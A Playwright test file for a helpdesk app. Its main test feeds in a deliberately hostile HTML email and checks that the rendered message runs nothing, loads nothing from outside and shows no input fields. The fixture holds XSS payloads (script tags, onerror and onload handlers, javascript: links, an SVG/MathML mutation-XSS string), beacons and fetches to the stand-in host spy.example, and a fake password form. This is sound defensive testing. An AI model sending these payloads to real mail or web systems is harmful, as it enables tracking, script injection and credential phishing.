import { randomUUID } from "node:crypto";
import { expect, type Request } from "@playwright/test";
import { aNewcomer, demoAdmin, registerVerified } from "../accounts.ts";
import { Agent } from "../actors/agent.ts";
import { Customer } from "../actors/customer.ts";
import { test } from "../fixtures.ts";
import { handOver } from "../incoming-mail.ts";

const secret = randomUUID();
test.use({ deskVariables: { MAIL_HTTP_SECRET: secret } });

const spy = "https://spy.example";
const hostile = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=${spy}/refresh"><base href="${spy}/">
<link rel="stylesheet" href="${spy}/a.css"><style>@import "${spy}/b.css"; body { background: url(${spy}/c.png) }</style>
<script>parent.document.title = "owned"; fetch("${spy}/script")</script></head>
<body onload="fetch('${spy}/onload')" background="${spy}/d.png">
<p>Hello from Mallory</p>
<img src="${spy}/e.png" srcset="${spy}/f.png 2x" onerror="fetch('${spy}/onerror')"><img src="x" onerror="alert(1)">
<svg><style><img src="${spy}/g.png" onerror="alert(2)"></style><script>alert(3)</script></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${spy}/h.png onerror=alert(4)&gt;">
<iframe src="${spy}/frame"></iframe><object data="${spy}/object"></object><video poster="${spy}/i.png" src="${spy}/v"></video>
<form action="${spy}/form"><input name="password"><button autofocus>Sign in</button></form>
<div style="background-image:url(${spy}/j.png);position:fixed;inset:0">Over everything</div>
<a href="javascript:alert(5)">Script</a> <a href="${spy}/link">A link</a>
</body></html>`;

function mailOf(subject: string, html: string, to = "support@desk.example"): string {
  return [
    "From: Mallory <mallory@example.com>",
    `To: ${to}`,
    `Subject: ${subject}`,
    `Message-ID: <${randomUUID()}@example.com>`,
    "MIME-Version: 1.0",
    "Content-Type: text/html; charset=utf-8",
    "",
    html,
    "",
  ].join("\r\n");
}

// case J11
// mail 28
test("a hostile mail that is looked at runs nothing, fetches nothing and has no field to type into; its links open outside", async ({
  browser,
  desk,
}) => {
  const subject = "A harmless question";
  await handOver(desk.url, mailOf(subject, hostile), secret);

  // Of its own: windows that are lent run a script in every frame, which this one refuses.
  const context = await browser.newContext({ baseURL: desk.url });
  const page = await context.newPage();
  const agent = new Agent(page, demoAdmin);
  await agent.arrives(desk.url);
  const outside: string[] = [];
  const note = (request: Request) => {
    if (!request.url().startsWith(desk.url)) outside.push(request.url());
  };
  await agent.opensTicket(subject);
  context.on("request", note);
  const refused: string[] = [];
  page.on("console", (message) => {
    if (/Content Security Policy|sandbox/i.test(message.text())) refused.push(message.text());
  });
  let dialogs = 0;
  page.on("dialog", (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
  await agent.seesWhereRepliesGo();
  await agent.thread.getByRole("button", { name: "Original" }).click();
  const frame = page.getByRole("dialog", { name: subject }).frameLocator("iframe");
  await expect(frame.getByText("Hello from Mallory")).toBeVisible();
  await expect(frame.getByRole("link", { name: "A link" })).toHaveAttribute("target", "_blank");
  for (const tag of ["script", "img", "form", "input", "button", "iframe", "object", "svg"]) {
    await expect(frame.locator(tag)).toHaveCount(0);
  }
  await expect(frame.locator("[style], [onload], [onerror], [background]")).toHaveCount(0);
  await expect(page).toHaveTitle(new RegExp(subject));
  context.off("request", note);
  expect({ outside, refused, dialogs }).toEqual({ outside: [], refused: [], dialogs: 0 });
  await context.close();
});

interface Mail {
  id: string;
  to: string;
}

/** A trial waits ten seconds for its customer to see an answer, and looks as often. */
const mailedWithinMs = 120_000;

// mail 17
test("an answer of somebody else waits at the ticket, in sight of staff alone, until they accept it", async ({
  anAgent,
  desk,
  openWindow,
}) => {
  const subject = "A scale that lies";
  const zofia = await registerVerified(aNewcomer("Zofia Nowak"), desk);
  const customer = new Customer(await openWindow(), zofia);
  await customer.arrives(desk.url);
  const path = await customer.createsTicket({ subject });
  await customer.page.goto("/");
  const agent = await anAgent();
  await agent.opensTicket(subject);
  await agent.sends("By how much?");
  const mails = async () => {
    const all = (await (await fetch(`${desk.url}/dev/mailbox.json`)).json()) as Mail[];
    return all.filter(({ id, to }) => id && to.includes(zofia.email));
  };
  await expect.poll(async () => (await mails()).length, { timeout: mailedWithinMs }).toBe(1);
  const [mail] = await mails();
  const source = await (await fetch(`${desk.url}/dev/mailbox/${mail?.id}/source`)).text();
  const [, replyTo = ""] = /^Reply-To: .*?([^\s<>]+\+[^\s<>]+)>?/im.exec(source) ?? [];
  await handOver(
    desk.url,
    mailOf(`Re: ${subject}`, "<p>By two grams, says my wife.</p>", replyTo),
    secret,
  );

  const { page } = agent;
  await expect(async () => {
    await page.goto(path);
    await expect(page.getByText("An e-mail is held at this ticket")).toBeVisible({
      timeout: 10_000,
    });
  }).toPass();
  // Also who is not in that ticket learns that one waits: each minute, and when they come.
  await page.goto(path);
  await expect(page.getByRole("link", { name: /^Mail problems\s*\d+$/ })).toBeVisible();
  await customer.page.goto(path);
  await customer.sees("By how much?");
  await expect(customer.page.getByText("says my wife")).toHaveCount(0);
  await expect(customer.page.getByText("An e-mail is held")).toHaveCount(0);

  await page.getByRole("link", { name: "look at it" }).click();
  const held = page.getByRole("listitem", { name: `Re: ${subject}` });
  await expect(held).toContainText("It answers in a ticket of somebody else.");
  await held.getByRole("button", { name: "Accept into" }).click();
  await expect(held).toHaveCount(0);
  await customer.sees("By two grams, says my wife.");
  await page.goto(path);
  await agent.sees("By two grams, says my wife.");
  await expect(page.getByText("An e-mail is held at this ticket")).toHaveCount(0);
});
